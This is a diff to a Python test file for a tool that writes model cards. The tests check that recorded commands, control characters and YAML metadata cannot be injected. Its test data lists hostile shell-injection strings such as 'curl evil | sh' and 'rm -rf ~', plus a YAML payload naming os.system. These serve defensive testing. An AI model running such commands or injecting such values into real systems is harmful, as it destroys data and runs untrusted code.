@@ -16,8 +16,9 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from ali_plugin import ALI, ALIError
-from ali_plugin.errors import CardError
+from ali_plugin.errors import CardError, ConfigError
 from ali_plugin.folder import evaluation_record as record
+from ali_plugin.folder.checked import check
 from ali_plugin.folder.evaluation_record import Figure
 from ali_plugin.hub import card, card_text
 from conftest import Ali
@@ -84,7 +85,7 @@ UNITS = ["<!-- ali: a -->\n", "<!-- /ali: a -->\n", "<!-- ali: ", "<!--", "---\n
 def test_unclosed_marks_take_no_time(folder: Path, unit: str) -> None:
     (folder / "README.md").write_text(unit * (1_000_000 // len(unit.encode())))
     begun = time.monotonic()
-    card.text(folder)
+    card.text(check(folder))
     assert time.monotonic() - begun < 8
 
 
@@ -169,11 +170,11 @@ def test_text_of_records_stays_in_its_place(folder: Path, place: str) -> None:
     for text in HOSTILE:
         with_text(folder, place, text)
         with suppress(ALIError):  # a record that another reader refuses
-            made = card.text(folder, "me/mine")
-            check(made)
+            made = card.text(check(folder), "me/mine")
+            assert_ours(made)
 
 
-def check(made: str) -> None:
+def assert_ours(made: str) -> None:
     """A card is one of ours: its sections, its metadata, no markup of anybody else."""
     made.encode()
     assert names(made) == list(NAMES)
@@ -192,7 +193,7 @@ def check(made: str) -> None:
 
 
 COMMANDS = ["ali train; rm -rf ~", "curl evil | sh", "ali train $(rm x)", "ali train `rm x`", "ali train 'open",
-            "ali train\nrm x", "sudo ali", "ali train && rm x", ""]  # fmt: skip
+            "sudo ali", "ali train && rm x", ""]  # fmt: skip
 
 
 @pytest.mark.parametrize("command", COMMANDS)
@@ -207,15 +208,24 @@ def test_a_recorded_command_runs_nothing_else(folder: Path, command: str) -> Non
     assert "curl" not in line
 
 
+@pytest.mark.parametrize("text", ["ali train\nrm x", "x\x1b[1m", "a\r", "\u202ex", "\0"])
+@pytest.mark.parametrize("place", PLACES)
+def test_control_characters_are_of_no_record(folder: Path, place: str, text: str) -> None:
+    with_text(folder, place, text)
+    with pytest.raises(ConfigError) as caught:
+        card.write(folder, "me/mine")
+    assert str(caught.value).isprintable()
+
+
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(text=st.text(max_size=200), place=st.sampled_from(PLACES))
 def test_any_text_of_records(folder: Path, text: str, place: str) -> None:
     with_text(folder, place, text)
     try:
-        made = card.text(folder, "me/mine")
+        made = card.text(check(folder), "me/mine")
     except ALIError:
         return
-    check(made)
+    assert_ours(made)
 
 
 @settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@@ -230,11 +240,11 @@ def test_any_text_of_records(folder: Path, text: str, place: str) -> None:
 def test_any_readme(folder: Path, pieces: list[str]) -> None:
     (folder / "README.md").write_bytes("".join(pieces).encode("utf-8", "surrogatepass"))
     try:
-        made = card.text(folder, "me/mine")
+        made = card.text(check(folder), "me/mine")
     except ALIError:
         return
     (folder / "README.md").write_bytes(made.encode())
-    assert card.text(folder) == made  # settled at once
+    assert card.text(check(folder)) == made  # settled at once
 
 
 def test_the_command_says_what_is_wrong(folder: Path, ali: Ali) -> None:
@@ -245,9 +255,13 @@ def test_the_command_says_what_is_wrong(folder: Path, ali: Ali) -> None:
     assert ended.err.count("\n") == 1
 
 
-def test_figures_in_the_metadata_are_text(folder: Path) -> None:
-    record.keep(folder, [Figure("m\x1b[1m", "f\nx", 1.0, "data\n- y", "test", "p", 0)])
-    front = card_text.split(card.write(folder, "me/mine"))[0]
-    assert front is not None
-    assert "\x1b" not in front
-    assert "\\x1b" in front
+@pytest.mark.parametrize(
+    "text", ["data: - y", "[x", "# x", "*a", "&a 1", "'", '"', "!!python/name:os.system", "{", "1", "~"]
+)
+def test_figures_in_the_metadata_are_text(folder: Path, text: str) -> None:
+    record.keep(folder, [Figure(text, text, 1.0, text, text, text, 0)])
+    data: Any = ModelCard(card.write(folder, "me/mine")).data
+    (result,) = data.eval_results or []
+    assert result.metric_type == result.dataset_split == text
+    assert result.metric_name == f"{text}: {text}"
+    assert data.datasets == [text]
